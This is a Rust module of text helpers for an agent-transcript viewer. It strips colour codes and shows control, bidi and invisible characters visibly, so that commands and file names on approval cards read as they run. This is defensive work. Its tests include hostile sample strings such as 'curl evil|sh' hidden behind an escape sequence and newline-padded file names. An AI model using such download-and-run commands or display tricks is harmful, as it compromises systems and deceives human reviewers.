//! Small text helpers shared by the reducer and the renderer.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Text an agent sent, for the transcript: colour sequences (SGR, `ESC [ digits m`) removed,
/// `\r` dropped, and every other control character shown visibly (`^[`, `^G`, `<U+009B>`),
/// `\n` and `\t` kept. Nothing is ever deleted beyond a colour sequence's own bytes: an
/// unterminated OSC or a stray ESC no longer swallows the text after it. Bidi and invisible
/// characters stay and are neutralized where text is drawn. Gate cards do not use this: what
/// a person approves stays exact (see `neutralize`).
pub fn sanitize(s: &str) -> String {
    sanitize_owned(Cow::Borrowed(s))
}

/// `sanitize` for text already owned: clean text (nearly all of it) is returned as it is,
/// without a copy.
pub fn sanitize_owned(s: Cow<'_, str>) -> String {
    let Some(at) = next_special(s.as_bytes(), 0) else {
        let mut s = s.into_owned();
        // Text built by growing (pretty JSON, joined results) has spare room; a row keeps
        // its text for the session, so it keeps only what it holds, as the copy did.
        if s.capacity() > s.len() {
            s.shrink_to_fit();
        }
        return s;
    };
    sanitized_from(&s, at)
}

/// `s` sanitized, where `at` is the first byte `next_special` stops at (before it, `s` is
/// clean). Clean runs are copied whole; only the characters `next_special` stops at go one at
/// a time.
fn sanitized_from(s: &str, mut at: usize) -> String {
    let bytes = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut start = 0;
    loop {
        // Every byte `next_special` stops at is ASCII or a UTF-8 lead byte: a char boundary.
        out.push_str(&s[start..at]);
        let rest = &s[at..];
        let Some(c) = rest.chars().next() else {
            break;
        };
        if c == '\u{1b}'
            && let Some(n) = sgr_len(rest)
        {
            at += n;
        } else {
            match c {
                '\r' => {}
                c if c.is_control() => out.push_str(&neutralize(c.encode_utf8(&mut [0; 4]))),
                c => out.push(c),
            }
            at += c.len_utf8();
        }
        start = at;
        at = next_special(bytes, at).unwrap_or(s.len());
    }
    out
}

/// Whether the byte at `i` starts a character `sanitize` changes: a C0 control other than
/// `\n` and `\t` (ESC and `\r` among them), DEL, or a C1 control (U+0080–U+009F, UTF-8
/// `C2 80`–`C2 9F`). These are exactly the characters for which `char::is_control` holds.
fn special_at(b: &[u8], i: usize) -> bool {
    match b[i] {
        b'\n' | b'\t' => false,
        0..=0x1f | 0x7f => true,
        0xc2 => matches!(b.get(i + 1), Some(0x80..=0x9f)),
        _ => false,
    }
}

/// A byte that may start such a character (`C2` also leads clean characters like `©`).
fn maybe_special(x: u8) -> bool {
    (x < 0x20 && x != b'\n' && x != b'\t') | (x == 0x7f) | (x == 0xc2)
}

/// The index of the first byte at or after `from` where `special_at` holds. Clean text is
/// checked 16 bytes at a time without branches (the compiler vectorises the fold); the last
/// few bytes too, padded with spaces, since most texts are short.
fn next_special(b: &[u8], from: usize) -> Option<usize> {
    fn any_maybe(chunk: &[u8; 16]) -> bool {
        chunk.iter().fold(false, |any, &x| any | maybe_special(x))
    }
    let mut i = from;
    while let Some(chunk) = b.get(i..i + 16) {
        if any_maybe(chunk.try_into().unwrap_or(&[b' '; 16]))
            && let Some(j) = (i..i + 16).find(|&j| special_at(b, j))
        {
            return Some(j);
        }
        i += 16;
    }
    let tail = b.get(i..).unwrap_or_default();
    let mut padded = [b' '; 16];
    padded[..tail.len()].copy_from_slice(tail);
    if !any_maybe(&padded) {
        return None;
    }
    (i..b.len()).find(|&j| special_at(b, j))
}

/// Length of a colour sequence (`ESC [ 1;31 m`) at the start of `s`: parameters are digits,
/// `;` and `:` only, at most 32 of them.
fn sgr_len(s: &str) -> Option<usize> {
    let body = s.strip_prefix("\u{1b}[")?;
    let params = body
        .bytes()
        .take(33)
        .take_while(|b| b.is_ascii_digit() || *b == b';' || *b == b':')
        .count();
    (params <= 32 && body.as_bytes().get(params) == Some(&b'm')).then_some(2 + params + 1)
}

/// True for a character that must never reach a terminal as it is: C0 controls (ESC starts
/// every escape sequence) except `\n` and `\t`, DEL, C1 (U+0080–U+009F, 8-bit CSI/OSC on
/// some terminals), bidi overrides, embeddings, isolates and marks (they reorder what is
/// shown, so a command can read differently from what runs), zero-width and other invisible
/// format characters, line/paragraph separators and tag characters (invisible text).
pub fn is_hostile(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        c if c.is_control() => true,
        '\u{00AD}'
        | '\u{061C}'
        | '\u{180E}'
        | '\u{200B}'..='\u{200F}'
        | '\u{2028}'..='\u{202E}'
        | '\u{2060}'..='\u{206F}'
        | '\u{FEFF}'
        | '\u{FFF9}'..='\u{FFFB}'
        | '\u{E0000}'..='\u{E007F}' => true,
        _ => false,
    }
}

/// `s` made safe for a terminal, visibly: C0 as caret notation (ESC is `^[`, DEL `^?`), every
/// other hostile character as `<U+202E>`. `\n` and `\t` stay. Used where text leaves for a
/// terminal (render, CLI printers, the pager file); the data itself keeps its exact bytes.
pub fn neutralize(s: &str) -> Cow<'_, str> {
    shown(s, is_hostile)
}

/// `s` made safe and kept on one line: `neutralize`, with `\n` and `\t` shown too (`^J`,
/// `^I`), as every other C0 character is. For names and paths (a file, a tool, a working
/// directory) and one-line summaries of them: `neutralize` keeps a newline, which then splits
/// a name across rows or is dropped by the terminal, so `evil\n\nnotes.txt` read as
/// `evilnotes.txt` and a card named a file other than the one written. Never used on text
/// whose lines matter (a command, a message): that wraps at its newlines.
pub fn visible_line(s: &str) -> Cow<'_, str> {
    shown(s, |c| matches!(c, '\n' | '\t') || is_hostile(c))
}

/// `s` with every character `hidden` says so shown visibly: C0 in caret notation, any other
/// as `<U+XXXX>`.
fn shown(s: &str, hidden: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(&hidden) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if !hidden(c) {
            out.push(c);
            continue;
        }
        match c as u32 {
            n @ 0..=0x1f => {
                out.push('^');
                out.push(char::from(n as u8 + 0x40));
            }
            0x7f => out.push_str("^?"),
            n => {
                let _ = write!(out, "<U+{n:04X}>");
            }
        }
    }
    Cow::Owned(out)
}

/// JSON text with every hostile character escaped as `\uXXXX` (serde_json escapes only C0).
/// Lossless: a JSON reader gets the same strings back. Hostile characters can only occur
/// inside strings, where `\u` escapes are valid.
pub fn json_for_terminal(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        if is_hostile(c) {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{u:04x}");
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// The first line of `s`, cut to `max` characters with an ellipsis.
pub fn one_line(s: &str, max: usize) -> String {
    let first = s
        .lines()
        .find(|l| !l.trim().is_empty())
        .unwrap_or("")
        .trim();
    truncate(first, max)
}

/// The largest character boundary of `s` at or before byte `i` (`str::floor_char_boundary`
/// is newer than our minimum Rust).
pub fn floor_boundary(s: &str, i: usize) -> usize {
    if i >= s.len() {
        return s.len();
    }
    (0..=i).rev().find(|&b| s.is_char_boundary(b)).unwrap_or(0)
}

/// Cut `s` to at most `max` bytes at a character boundary; whether anything was cut.
pub fn cut_bytes(s: &mut String, max: usize) -> bool {
    if s.len() <= max {
        return false;
    }
    s.truncate(floor_boundary(s, max));
    true
}

/// `truncate` for text already owned: cut in place (no copy when nothing is cut).
pub fn truncate_owned(mut s: String, max: usize) -> String {
    if s.len() <= max || s.char_indices().nth(max).is_none() {
        return s;
    }
    let cut = s
        .char_indices()
        .nth(max.saturating_sub(1))
        .map_or(0, |(i, _)| i);
    s.truncate(cut);
    s.push('…');
    s
}

/// Cut `s` to at most `max` characters, marking the cut with `…`.
pub fn truncate(s: &str, max: usize) -> String {
    // No more bytes than `max`, so no more characters: nothing to count.
    if s.len() <= max {
        return s.to_string();
    }
    let Some((_, _)) = s.char_indices().nth(max) else {
        return s.to_string();
    };
    // Sized once: a row keeps this text for the session, and one grown a character at a
    // time holds up to twice its length.
    let cut = s
        .char_indices()
        .nth(max.saturating_sub(1))
        .map_or(0, |(i, _)| i);
    let mut out = String::with_capacity(cut + '…'.len_utf8());
    out.push_str(&s[..cut]);
    out.push('…');
    out
}

/// Compact summary of a tool input for one-line display, with the input's exact characters
/// (neutralized where it is drawn).
pub fn tool_input_summary(tool: &str, input: &serde_json::Value) -> String {
    summary_or(tool, input, || {
        serde_json::to_string(input).unwrap_or_default()
    })
}

/// `tool_input_summary` for a caller that has `input` as compact JSON already (it is not
/// printed a second time).
pub fn tool_input_summary_compact(tool: &str, input: &serde_json::Value, compact: &str) -> String {
    summary_or(tool, input, || compact.to_string())
}

fn summary_or(tool: &str, input: &serde_json::Value, compact: impl FnOnce() -> String) -> String {
    let field = |k: &str| input.get(k).and_then(|v| v.as_str());
    let s = match tool {
        "Bash" => field("command").map(str::to_string),
        // A path whole and on one line (`one_line` below keeps only a first line).
        "Read" | "Write" | "Edit" | "MultiEdit" | "NotebookEdit" => field("file_path")
            .or_else(|| field("notebook_path"))
            .map(|p| visible_line(p).into_owned()),
        "Grep" => field("pattern").map(|p| match field("path") {
            Some(path) => format!("{p} in {}", visible_line(path)),
            None => p.to_string(),
        }),
        "Glob" => field("pattern").map(str::to_string),
        "WebFetch" => field("url").map(str::to_string),
        "WebSearch" => field("query").map(str::to_string),
        "Agent" | "Task" => field("description").map(str::to_string),
        "AskUserQuestion" => input
            .get("questions")
            .and_then(|q| q.as_array())
            .map(|q| format!("{} question(s)", q.len())),
        _ => None,
    };
    let s = s.unwrap_or_else(|| {
        let compact = compact();
        if compact == "{}" {
            String::new()
        } else {
            compact
        }
    });
    // Not stripped: a command with an escape sequence in it must read that way on the card
    // (`^[]0;…`), not as the harmless-looking rest. Whatever draws or prints it neutralizes.
    one_line(&s, 160)
}

/// Pretty JSON for display.
pub fn pretty_json(v: &serde_json::Value) -> String {
    // A `Value` always prints (its keys are strings).
    serde_json::to_string_pretty(v).unwrap_or_default()
}

/// Format a token count as `1.2k`.
pub fn human_count(n: u64) -> String {
    match n {
        0..=999 => n.to_string(),
        1000..=999_999 => format!("{:.1}k", n as f64 / 1000.0),
        _ => format!("{:.1}M", n as f64 / 1_000_000.0),
    }
}

/// Format a duration in milliseconds as `1m05s`, `4.2s` or `350ms`.
pub fn human_duration(ms: u64) -> String {
    if ms < 1000 {
        format!("{ms}ms")
    } else if ms < 60_000 {
        format!("{:.1}s", ms as f64 / 1000.0)
    } else if ms < 3_600_000 {
        format!("{}m{:02}s", ms / 60_000, (ms / 1000) % 60)
    } else {
        format!("{}h{:02}m", ms / 3_600_000, (ms / 60_000) % 60)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cuts_land_on_character_boundaries() {
        let s = "aé€😀";
        assert_eq!(
            (0..=12).map(|i| floor_boundary(s, i)).collect::<Vec<_>>(),
            vec![0, 1, 1, 3, 3, 3, 6, 6, 6, 6, 10, 10, 10]
        );
        let mut t = s.to_string();
        assert!(!cut_bytes(&mut t, 10));
        assert!(cut_bytes(&mut t, 5));
        assert_eq!(t, "aé");
        assert!(cut_bytes(&mut t, 0));
        assert_eq!(t, "");
    }

    #[test]
    fn sanitize_strips_colours_and_shows_every_other_control() {
        assert_eq!(sanitize("a\u{1b}[31mred\u{1b}[0m b\r\n"), "ared b\n");
        assert_eq!(sanitize("x\u{1b}]0;title\u{7}y"), "x^[]0;title^Gy");
        assert_eq!(sanitize("bell\u{7}"), "bell^G");
        // Nothing after an unterminated sequence is lost.
        assert_eq!(
            sanitize("true \u{1b}]; curl evil|sh; \u{7} ls"),
            "true ^[]; curl evil|sh; ^G ls"
        );
        assert_eq!(
            sanitize("git status\u{1b}]\ncurl x"),
            "git status^[]\ncurl x"
        );
        assert_eq!(sanitize("\u{1b}[ curl"), "^[[ curl");
        assert_eq!(sanitize("\u{1b}[2J\u{9b}x"), "^[[2J<U+009B>x");
        assert!(
            !sanitize("\u{1b}\u{7f}\u{0}\u{85}")
                .chars()
                .any(char::is_control)
        );
    }

    #[test]
    fn neutralize_shows_every_hostile_character() {
        let hostile =
            "a\u{1b}]0;t\u{7}b\u{9b}31m\u{202e}cba\u{2066}\u{200b}\u{feff}\u{7f}\r\u{e0041}\n\tz";
        let n = neutralize(hostile);
        assert_eq!(
            n,
            "a^[]0;t^Gb<U+009B>31m<U+202E>cba<U+2066><U+200B><U+FEFF>^?^M<U+E0041>\n\tz"
        );
        assert!(!n.chars().any(is_hostile));
        assert!(matches!(neutralize("plain 日本 ✔"), Cow::Borrowed(_)));
        for c in ('\u{0}'..='\u{9f}').filter(|c| !matches!(c, '\n' | '\t' | ' '..='~')) {
            assert!(is_hostile(c), "{c:?}");
        }
        for c in ('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}') {
            assert!(is_hostile(c), "{c:?}");
        }
    }

    #[test]
    fn visible_line_shows_newlines_and_tabs_in_a_name() {
        assert_eq!(
            visible_line("evil\n\n\n\n\nnotes.txt"),
            "evil^J^J^J^J^Jnotes.txt"
        );
        assert_eq!(
            visible_line("a\tb\r\u{1b}[2J\u{202e}c"),
            "a^Ib^M^[[2J<U+202E>c"
        );
        assert!(matches!(visible_line("src/日本/a b.rs"), Cow::Borrowed(_)));
        // Whatever it is given, the result is one line with nothing the terminal drops.
        let all: String = ('\u{0}'..='\u{a0}')
            .chain(['\u{2028}', '\u{2066}'])
            .collect();
        let v = visible_line(&all);
        assert!(!v.chars().any(|c| c.is_control() || is_hostile(c)), "{v}");
        // `neutralize` still keeps the lines of multi-line text.
        assert_eq!(neutralize("a\n\tb"), "a\n\tb");
    }

    #[test]
    fn a_path_summary_keeps_every_line_of_the_path() {
        let v = serde_json::json!({"file_path": "evil\n\n\n\n\nnotes.txt", "content": "x"});
        assert_eq!(tool_input_summary("Write", &v), "evil^J^J^J^J^Jnotes.txt");
        let v = serde_json::json!({"pattern": "fn", "path": "a\nb"});
        assert_eq!(tool_input_summary("Grep", &v), "fn in a^Jb");
    }

    /// Given the input's compact JSON, the summary reads as it does without it.
    #[test]
    fn a_summary_from_compact_json_reads_the_same() {
        let inputs = [
            serde_json::json!({"command": "ls -la\nrm x"}),
            serde_json::json!({"file_path": "a\nb"}),
            serde_json::json!({"pattern": "fn", "path": "src"}),
            serde_json::json!({"questions": [1, 2]}),
            serde_json::json!({}),
            serde_json::json!({"z": 1, "a": ["\u{1b}[2J", {"k": null}], "long": "x".repeat(400)}),
            serde_json::json!(null),
        ];
        for tool in [
            "Bash",
            "Write",
            "Grep",
            "AskUserQuestion",
            "Glob",
            "harness::run",
            "",
        ] {
            for v in &inputs {
                assert_eq!(
                    tool_input_summary_compact(tool, v, &v.to_string()),
                    tool_input_summary(tool, v),
                    "{tool} {v}"
                );
            }
        }
    }

    #[test]
    fn json_for_terminal_is_lossless() {
        let v = serde_json::json!({"m": "x\u{1b}[2J\u{9b}\u{202e}\u{7f}\u{e0041}y"});
        let text = json_for_terminal(&serde_json::to_string_pretty(&v).unwrap());
        assert!(!text.chars().any(is_hostile), "{text}");
        assert_eq!(serde_json::from_str::<serde_json::Value>(&text).unwrap(), v);
    }

    #[test]
    fn truncate_marks_cut() {
        assert_eq!(truncate("abcdef", 4), "abc…");
        assert_eq!(truncate("abc", 4), "abc");
        for (t, max) in [
            ("abcdef", 4),
            ("abc", 4),
            ("naïve café", 5),
            ("", 0),
            ("x", 0),
        ] {
            assert_eq!(
                truncate_owned(t.to_string(), max),
                truncate(t, max),
                "{t} {max}"
            );
        }
    }

    #[test]
    fn summaries() {
        let v = serde_json::json!({"command": "touch x", "description": "d"});
        assert_eq!(tool_input_summary("Bash", &v), "touch x");
        let v = serde_json::json!({"pattern": "fn a", "path": "src"});
        assert_eq!(tool_input_summary("Grep", &v), "fn a in src");
        assert_eq!(tool_input_summary("X", &serde_json::json!({})), "");
        // Escapes stay, to be shown (`^[`), never silently dropped from a command.
        let v = serde_json::json!({"command": "echo ok \u{1b}]0;t\u{7} \u{202e}x"});
        assert_eq!(
            neutralize(&tool_input_summary("Bash", &v)),
            "echo ok ^[]0;t^G <U+202E>x"
        );
    }
}
